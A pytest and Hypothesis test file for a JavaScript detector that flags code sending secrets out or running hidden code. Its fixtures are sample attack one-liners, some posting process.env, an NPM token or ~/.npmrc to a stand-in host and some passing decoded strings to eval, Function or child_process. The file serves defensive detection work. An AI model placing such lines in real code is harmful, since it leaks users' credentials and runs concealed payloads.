from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.javascript.triage import MAX_SITES, Triage, triage

DUMP = "JSON.stringify(process.env)"
SENDS = {
    "fetch": f"fetch('https://a.invalid', {{body: {DUMP}}})",
    "optional": f"fetch?.('https://a.invalid', {{body: {DUMP}}})",
    "module": f"const https = require('https'); https.get('https://a.invalid/' + {DUMP})",
    "module with node:": f"import {{request}} from 'node:https'; request({DUMP})",
    "own name of a module": f"const send = require('axios'); send({DUMP})",
    "hidden module": f"const h = require('ht' + 'tps'); h.get({DUMP})",
    "a secret variable": "fetch('https://a.invalid/' + process.env.NPM_TOKEN)",
    "a file of secrets": "fetch('https://a.invalid', {body: fs.readFileSync(home + '/.npmrc')})",
    "host facts": "fetch('https://a.invalid', {body: os.hostname()})",
}
RUNS = {
    "eval": "eval(atob('YQ=='))",
    "Function": "new Function(Buffer.from(x, 'base64').toString())()",
    "Function.call": "Function.call(null, atob(x))",
    "a sum": "eval('con' + 'sole.log(1)')",
    "a list": "new Function(['con', 'sole.log(1)'].join(''))()",
    "a template": "eval(`con${x}`)",
    "a method of a text": "eval('con'.concat('sole.log(1)'))",
    "constructor": "[]['at'].constructor(atob(x))()",
    "another name": "const e = eval; e(atob(x))",
    "vm": "vm.runInThisContext(atob(x))",
    "in pieces": "global['ev' + 'al'](atob(x))",
    "what the network gave": "fetch(x).then(r => r.text()).then(t => eval(t))",
    "process": "const {execSync} = require('child_process'); execSync(atob(x))",
    "process under another name": "const {exec: run} = require('child_process'); run(atob(x))",
}
QUIET = {
    "empty": "",
    "nothing": "module.exports = (a, b) => a + b;",
    "network alone": "fetch('https://a.invalid')",
    "environment alone": f"console.log({DUMP})",
    "a plain variable": "fetch(process.env.NODE_ENV)",
    "process alone": "const {execSync} = require('child_process'); execSync(`git ${x}`)",
    "eval alone": "eval(x)",
    "the global object": "const root = Function('return this')(); atob(x)",
}


@pytest.mark.parametrize("code", SENDS.values(), ids=SENDS.keys())
def test_what_could_send_secrets_is_parsed(code: str) -> None:
    assert triage(code.encode()).sends


@pytest.mark.parametrize("code", RUNS.values(), ids=RUNS.keys())
def test_what_could_run_hidden_code_is_parsed(code: str) -> None:
    assert triage(code.encode()).runs


@pytest.mark.parametrize("code", QUIET.values(), ids=QUIET.keys())
def test_honest_files_are_not_parsed(code: str) -> None:
    assert triage(code.encode()) == Triage()


@pytest.mark.parametrize("code", [*SENDS.values(), *RUNS.values()], ids=[*SENDS, *RUNS])
@given(before=st.text(alphabet="ab =;\n'(.", max_size=30), after=st.text(max_size=30))
@settings(max_examples=15, deadline=None)
def test_nothing_that_stands_around_hides_it(code: str, before: str, after: str) -> None:
    found = triage(f"{before}\n;{code};\n{after}".encode(errors="replace"))
    assert found.sends or found.runs


_PIECES = st.sampled_from(
    [*SENDS.values(), *RUNS.values(), "eval(", "process.env", "'base64'", "fetch", "(", "?.(", "'", "e = eval", "\n"]
)


@given(st.lists(_PIECES, max_size=12))
@settings(max_examples=200, deadline=None)
def test_every_place_is_an_opening_bracket_told_once_in_order(pieces: list[str]) -> None:
    source = " ".join(pieces).encode()
    found = triage(source)
    for places in (found.sends, found.runs):
        assert list(places) == sorted(set(places))
        assert all(source[place : place + 1] == b"(" for place in places)


def test_the_places_of_one_file_are_bounded() -> None:
    found = triage(b"atob(x);" + b"eval(x);" * 2 * MAX_SITES + f"fetch({DUMP});".encode() * 2 * MAX_SITES)
    assert (len(found.sends), len(found.runs)) == (MAX_SITES, MAX_SITES)


class Counting(bytes):
    """Source that counts the bytes of the parts that are cut out of it, and how often it is searched."""

    cut = 0
    searched = 0

    def __getitem__(self, key: object) -> bytes:  # type: ignore[override]
        part = super().__getitem__(key)  # type: ignore[call-overload]
        self.cut += len(part) if isinstance(part, bytes) else 1
        return bytes(part) if isinstance(part, bytes) else part

    def find(self, *args: object) -> int:
        self.searched += 1
        return super().find(*args)  # type: ignore[arg-type]


HOSTILE = {
    "long name": b"a" * 400,
    "equals": b"a=" * 200,
    "eval": b"eval," * 80,
    "modules": b"'http'" * 70,
    "imports": b"import{a}from'http'" * 20,
    "environment": b"process.env." * 33,
    "requires": b"require( " * 44,
    "globals": b"global[" * 57,
    "brackets": b"(" * 400,
}


@pytest.mark.parametrize("piece", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_work_grows_with_the_size_and_no_faster(piece: bytes) -> None:
    def work(times: int) -> int:
        source = Counting(b"fetch(process.env);atob(x);eval(x);" + piece * times)
        triage(source)
        return source.cut + source.searched

    few, many = work(20), work(80)
    assert many <= 4.5 * few + 1_000
